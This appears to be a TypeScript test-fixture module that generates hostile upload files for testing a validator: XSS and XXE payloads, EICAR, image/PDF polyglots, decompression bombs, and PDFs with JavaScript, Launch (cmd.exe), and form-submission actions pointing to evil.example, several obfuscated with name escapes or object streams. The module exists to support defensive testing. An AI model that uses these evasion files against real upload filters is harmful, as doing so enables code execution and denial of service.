// Malicious files. Their payloads are harmless here; letting them through would not be.
import { createCipheriv } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, type PDFContext } from '@cantoo/pdf-lib'
import { aPdf, drawing, made, noise, type MadeFile } from './honest-files.ts'

export interface HostileFile extends MadeFile {
  /** Refused, or accepted in a form in which these bytes are gone. */
  ends: 'refused' | { without: string }
}

const marker = '<script>alert(document.domain)</script>'
export const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-` + 'ANTIVIRUS-TEST-FILE!$H+H*'

let files: Promise<HostileFile[]> | undefined

export const hostileFiles = (): Promise<HostileFile[]> => (files ??= makeHostileFiles())

async function makeHostileFiles(): Promise<HostileFile[]> {
  return [
    ...wrongContent(),
    ...(await wrongNames()),
    ...(await polyglots()),
    ...(await brokenPictures()),
    ...(await activePdfs()),
    ...(await trickyPdfs()),
    ...(await brokenPdfs()),
  ]
}

function refused(file: MadeFile): HostileFile {
  return { ...file, ends: 'refused' }
}

function wrongContent(): HostileFile[] {
  const contents: Record<string, string | Buffer> = {
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
    html: `<!doctype html>${marker}`,
    'html after a blank': `\n\n <html>${marker}</html>`,
    xml: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    javascript: 'alert(1)',
    'windows program': Buffer.from('MZ\x90\0\x03\0\0\0\x04', 'latin1'),
    'linux program': Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    'shell script': '#!/bin/sh\nid\n',
    'zip archive': Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'),
    'gzip archive': Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]),
    gif: 'GIF89a\x01\0\x01\0',
    tiff: 'II*\0\x08\0\0\0',
    postscript: '%!PS-Adobe-3.0\n(%stdin) (r) file',
    'eicar test virus': eicar,
    empty: '',
    'one byte': 'a',
    'beginning of a jpeg only': Buffer.from([0xff, 0xd8, 0xff]),
    'beginning of a png only': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    'beginning of a pdf only': '%PDF-1.7\n',
  }
  return Object.entries(contents).flatMap(([what, content]) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
    return (['jpg', 'png', 'pdf'] as const).map((extension) =>
      refused(made(`${what} as ${extension}`, extension, bytes)),
    )
  })
}

async function wrongNames(): Promise<HostileFile[]> {
  const jpeg = await drawing(200, 200).jpeg().toBuffer()
  const pdf = await aPdf()
  const names: [fileName: string, fileType: string, bytes: Buffer][] = [
    ['photo.png', 'image/png', jpeg],
    ['photo.pdf', 'application/pdf', jpeg],
    ['ticket.jpg', 'image/jpeg', pdf],
    ['photo.jpg', 'application/pdf', jpeg],
    ['photo.jpg', 'text/html', jpeg],
    ['photo.jpg', 'image/svg+xml', jpeg],
    ['photo.jpg.exe', 'image/jpeg', jpeg],
    ['photo.jpg\0.exe', 'image/jpeg', jpeg],
    ['photo.php', 'image/jpeg', jpeg],
    ['photo.svg', 'image/jpeg', jpeg],
    ['photo', 'image/jpeg', jpeg],
    ['.htaccess', 'image/jpeg', jpeg],
    ['photo.jpg ::$DATA', 'image/jpeg', jpeg],
    ['ticket.pdf.html', 'application/pdf', pdf],
    [`${'n'.repeat(252)}.jpg`, 'image/jpeg', jpeg],
  ]
  return names.map(([fileName, fileType, bytes]) =>
    refused({ what: `${JSON.stringify(fileName.slice(-20))} as ${fileType}`, fileName, fileType, bytes }),
  )
}

function neutral(file: MadeFile): HostileFile {
  return { ...file, ends: { without: 'script>alert' } }
}

/** Two formats at once: only the image may come out. */
async function polyglots(): Promise<HostileFile[]> {
  const jpeg = await drawing(200, 200).jpeg().toBuffer()
  const png = await drawing(200, 200).png().toBuffer()
  const pdf = await aPdf()
  const zip = (name: string) => {
    const end = Buffer.alloc(22)
    end.write('PK\x05\x06', 'latin1')
    return Buffer.concat([Buffer.from(`PK\x03\x04${name}${marker}`, 'latin1'), end])
  }
  const comment = Buffer.from(marker)
  const jpegComment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment])
  return [
    neutral(made('jpeg with html behind it', 'jpg', Buffer.concat([jpeg, comment]))),
    neutral(made('jpeg with an archive behind it', 'jpg', Buffer.concat([jpeg, zip('a.jar')]))),
    neutral(made('jpeg with a pdf behind it', 'jpg', Buffer.concat([jpeg, pdf, comment]))),
    neutral(
      made('jpeg with html in a comment', 'jpg', Buffer.concat([jpeg.subarray(0, 2), jpegComment, jpeg.subarray(2)])),
    ),
    neutral(
      made(
        'jpeg with html in its description',
        'jpg',
        await drawing(200, 200)
          .withExif({ IFD0: { ImageDescription: marker } })
          .jpeg()
          .toBuffer(),
      ),
    ),
    neutral(
      made(
        'jpeg with html in its xmp',
        'jpg',
        await drawing(200, 200).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${marker}</x:xmpmeta>`).jpeg().toBuffer(),
      ),
    ),
    neutral(made('png with html behind it', 'png', Buffer.concat([png, comment]))),
    neutral(made('png with html in a text chunk', 'png', withChunk(png, 'tEXt', Buffer.from(`Comment\0${marker}`)))),
    neutral(made('png with an archive behind it', 'png', Buffer.concat([png, zip('a.zip')]))),
    {
      ...made('jpeg with the test virus behind it', 'jpg', Buffer.concat([jpeg, Buffer.from(eicar)])),
      ends: { without: 'EICAR' },
    },
    {
      ...made('jpeg with an elf behind it', 'jpg', Buffer.concat([jpeg, Buffer.from('\x7fELF-program', 'latin1')])),
      ends: { without: 'ELF-program' },
    },
    refused(made('pdf with html behind it', 'pdf', Buffer.concat([pdf, comment]))),
    refused(made('pdf with an archive behind it', 'pdf', Buffer.concat([pdf, zip('a.jar')]))),
    refused(made('pdf with html before it', 'pdf', Buffer.concat([comment, pdf]))),
    refused(made('pdf that ends as an archive', 'pdf', archiveInPdf(pdf))),
    refused(made('archive with a pdf inside', 'pdf', Buffer.concat([zip('a'), pdf]))),
    refused(made('gif and pdf at once', 'pdf', Buffer.concat([Buffer.from('GIF89a'), pdf]))),
  ]
}

/** A ZIP directory whose comment is the end of the PDF. */
function archiveInPdf(pdf: Buffer): Buffer {
  const tail = Buffer.from('\n%%EOF\n')
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(tail.length, 20)
  return Buffer.concat([pdf, Buffer.from('\n%'), end, tail])
}

async function brokenPictures(): Promise<HostileFile[]> {
  const jpeg = await noise(600, 600).jpeg().toBuffer()
  const png = await noise(300, 300).png().toBuffer()
  const flood = Buffer.from(await drawing(8, 8).jpeg().toBuffer())
  const frame = flood.indexOf(Buffer.from([0xff, 0xc0]))
  flood.writeUInt16BE(65_500, frame + 5)
  flood.writeUInt16BE(65_500, frame + 7)
  const largePng = Buffer.from(png)
  largePng.writeUInt32BE(100_000, 16)
  largePng.writeUInt32BE(100_000, 20)
  largePng.writeUInt32BE(crc32(largePng.subarray(12, 29)), 29)
  const wrongSum = Buffer.from(png)
  wrongSum.writeUInt32BE(1, 29)
  return [
    refused(made('jpeg cut in half', 'jpg', jpeg.subarray(0, jpeg.length / 2))),
    refused(made('jpeg cut after its head', 'jpg', jpeg.subarray(0, 400))),
    refused(made('png cut in half', 'png', png.subarray(0, png.length / 2))),
    refused(made('png with a wrong sum in its head', 'png', wrongSum)),
    refused(made('jpeg that claims 4290 megapixels', 'jpg', flood)),
    refused(made('png that claims 10000 megapixels', 'png', largePng)),
    refused(made('png of 64 megapixels', 'png', emptyPng(8000, 8000))),
    refused(made('png of 49 megapixels in 6 kB', 'png', emptyPng(7000, 7000, 1))),
    refused(made('jpeg head and then text', 'jpg', Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(5000, 'x')]))),
    {
      ...made(
        'png with a bomb in its profile',
        'png',
        withChunk(png, 'iCCP', Buffer.concat([Buffer.from('p\0\0'), deflateSync(Buffer.alloc(60_000_000))])),
      ),
      ends: { without: 'iCCP' },
    },
    {
      ...made(
        'png with a bomb in a text',
        'png',
        withChunk(png, 'zTXt', Buffer.concat([Buffer.from('t\0\0'), deflateSync(Buffer.alloc(60_000_000))])),
      ),
      ends: { without: 'zTXt' },
    },
  ]
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)])
}

/** A decompression bomb: a few kilobytes that become an image of this size. */
function emptyPng(width: number, height: number, bitsPerPixel = 8): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = bitsPerPixel
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(((width * bitsPerPixel) / 8 + 1) * height))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

type LiteralObject = Extract<Parameters<PDFContext['obj']>[0], Record<string, unknown>>
type Write = (document: PDFDocument) => unknown

const actions: Record<string, Write> = {
  'a program at opening': (document) => document.addJavaScript('start', 'app.alert(1)'),
  'a program in its opening action': (document) =>
    openWith(document, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  'a launch at opening': (document) => openWith(document, { S: 'Launch', F: PDFString.of('cmd.exe') }),
  'an address at opening': (document) => openWith(document, { S: 'URI', URI: PDFString.of('https://evil.example') }),
  'a remote file at opening': (document) => openWith(document, { S: 'GoToR', F: PDFString.of(String.raw`\\evil\x`) }),
  'a form that sends itself': (document) =>
    openWith(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
  'data from elsewhere': (document) => openWith(document, { S: 'ImportData', F: PDFString.of('x.fdf') }),
  'a program when a page opens': (document) =>
    document
      .getPage(0)
      .node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('1') } })),
  'a program behind a link': (document) =>
    annotate(document, { Subtype: 'Link', A: { S: 'JavaScript', JS: PDFString.of('1') } }),
  'a launch behind a link': (document) =>
    annotate(document, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('calc.exe') } }),
  'a rich media note': (document) => annotate(document, { Subtype: 'RichMedia', RichMediaContent: {} }),
  'a film': (document) => annotate(document, { Subtype: 'Movie', Movie: {} }),
  'a sound': (document) => annotate(document, { Subtype: 'Sound' }),
  'a 3D model': (document) => annotate(document, { Subtype: '3D' }),
  'an attachment note': (document) => annotate(document, { Subtype: 'FileAttachment' }),
  'an XFA form': (document) =>
    document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
  'a file inside': (document) => document.attach(Buffer.from('MZ'), 'x.exe', {}),
}

function openWith(document: PDFDocument, action: Record<string, unknown>) {
  document.catalog.set(
    PDFName.of('OpenAction'),
    document.context.register(document.context.obj(action as LiteralObject)),
  )
}

function annotate(document: PDFDocument, values: Record<string, unknown>) {
  const note = document.context.obj({ Type: 'Annot', Rect: [0, 0, 9, 9], ...values } as LiteralObject)
  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(note)]))
}

/** Each of them plain, and packed into an object stream. */
async function activePdfs(): Promise<HostileFile[]> {
  const files: HostileFile[] = []
  for (const [what, write] of Object.entries(actions))
    for (const useObjectStreams of [false, true]) {
      const document = await PDFDocument.create()
      document.addPage()
      await write(document)
      const bytes = await document.save({ useObjectStreams })
      files.push(refused(made(`pdf with ${what}${useObjectStreams ? ', packed' : ''}`, 'pdf', bytes)))
    }
  return files
}

function handmade(objects: Record<number, string | Buffer>, trailer = '', version = '1.7'): Buffer {
  const parts = [Buffer.from(`%PDF-${version}\n`)]
  const size = Math.max(...Object.keys(objects).map(Number)) + 1
  const places = new Map<number, number>()
  let at = parts[0]!.length
  for (const [number, body] of Object.entries(objects)) {
    const part = Buffer.concat([
      Buffer.from(`${number} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ])
    places.set(Number(number), at)
    parts.push(part)
    at += part.length
  }
  const lines = Array.from({ length: size }, (_, number) =>
    places.has(number) ? `${String(places.get(number)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n',
  )
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n${lines.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

const pages = {
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
}

function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ])
}

const catalogue = (rest: string) => `<< /Type /Catalog /Pages 2 0 R ${rest} >>`

async function trickyPdfs(): Promise<HostileFile[]> {
  const tricks: Record<string, Buffer> = {
    'a name in escapes': handmade({
      ...pages,
      1: catalogue('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
    }),
    'all of a name in escapes': handmade({
      ...pages,
      1: catalogue('/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /#4A#53 (1) >>'),
    }),
    'a launch in escapes': handmade({ ...pages, 1: catalogue('/OpenAction << /S /L#61unch /F (x) >>') }),
    'embedded files in escapes': handmade({ ...pages, 1: catalogue('/Names << /Embedded#46iles << /Names [] >> >>') }),
    'no blanks between words': handmade({
      ...pages,
      1: '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>',
    }),
    'an address-like key before it': handmade({
      ...pages,
      1: '<</Type/Catalog/Pages 2 0 R/OpenAction<</://S/JavaScript/JS(1)>>>>',
    }),
    'comments between words': handmade({ ...pages, 1: catalogue('/OpenAction << /S %x\n/JavaScript %y\n/JS (1) >>') }),
    'a bracket in a comment before it': handmade({
      ...pages,
      1: catalogue('%(\n/OpenAction << /S /JavaScript /JS (1) >>'),
    }),
    'an object hidden in a stream': hiddenInStream(),
    'packed objects without their type': packed(deflateSync(program), '/N 1 /First 4 /Filter /FlateDecode'),
    'packed objects with a predictor': packed(
      deflateSync(program),
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
    ),
    'packed objects in hexadecimal': packed(
      Buffer.from(`${program.toString('hex')}>`),
      '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
    ),
    'packed objects packed twice': packed(
      deflateSync(deflateSync(program)),
      '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
    ),
    'packed objects with their type in escapes': packed(
      deflateSync(program),
      '/Type /O#62jStm /N 1 /First 4 /Filter /Fl#61teDecode',
    ),
    'packed objects that are a bomb': packed(
      deflateSync(Buffer.concat([program, Buffer.alloc(50_000_000, ' ')])),
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
    ),
    'a page that is a bomb': handmade({
      ...pages,
      1: catalogue(''),
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
      4: stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(400_000_000))),
    }),
    'a page packed twice': handmade({
      ...pages,
      1: catalogue(''),
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
      4: stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(10_000_000)))),
    }),
    'a hundred thousand beginnings': handmade({ ...pages, 1: catalogue(''), 4: `(${'1 0 obj ('.repeat(100_000)}` }),
  }
  return Object.entries(tricks).map(([what, bytes]) => refused(made(`pdf with ${what}`, 'pdf', bytes)))
}

const program = Buffer.from('4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>')

function packed(data: Buffer, dictionary: string): Buffer {
  return handmade({ ...pages, 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', 5: stream(dictionary, data) })
}

/** The cross-reference table points into the middle of a stream. */
function hiddenInStream(): Buffer {
  const inner = '4 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj'
  const pdf = handmade({
    ...pages,
    1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    5: stream('', Buffer.from(inner)),
  })
  const text = pdf.toString('latin1')
  const place = String(text.indexOf(inner)).padStart(10, '0')
  const lines = text.indexOf('xref\n') + 'xref\n0 6\n'.length
  return Buffer.from(`${text.slice(0, lines + 80)}${place} 00000 n \n${text.slice(lines + 100)}`, 'latin1')
}

async function brokenPdfs(): Promise<HostileFile[]> {
  const pdf = await aPdf(3)
  const document = await PDFDocument.load(await aPdf())
  document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' })
  const secret = await document.save()
  const open = await PDFDocument.load(await aPdf())
  open.encrypt({ userPassword: '', ownerPassword: 'owner' })
  const byHand = handmade(
    { ...pages, 1: '<< /Type /Catalog /Pages 2 0 R >>' },
    `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${sealed()}> /U <${sealed()}> >>`,
  )
  return [
    refused(made('pdf with a password', 'pdf', secret)),
    refused(made('pdf with an empty password', 'pdf', await open.save())),
    refused(made('pdf with a lock by hand', 'pdf', byHand)),
    refused(made('pdf of 51 pages', 'pdf', await aPdf(51))),
    refused(made('pdf cut in half', 'pdf', pdf.subarray(0, pdf.length / 2))),
    refused(made('pdf without its end', 'pdf', pdf.subarray(0, pdf.length - 40))),
    refused(
      made(
        'pdf head and then noise',
        'pdf',
        Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 'ab'), Buffer.from('\n%%EOF')]),
      ),
    ),
    refused(
      made(
        'pdf without a page',
        'pdf',
        handmade({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
      ),
    ),
    refused(
      made(
        'pdf with pages in a circle',
        'pdf',
        handmade({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
      ),
    ),
    refused(made('pdf without a catalogue', 'pdf', handmade({ 2: pages[2], 3: pages[3] }))),
  ]
}

function sealed(): string {
  return createCipheriv('aes-256-ctr', Buffer.alloc(32), Buffer.alloc(16)).update(Buffer.alloc(32)).toString('hex')
}
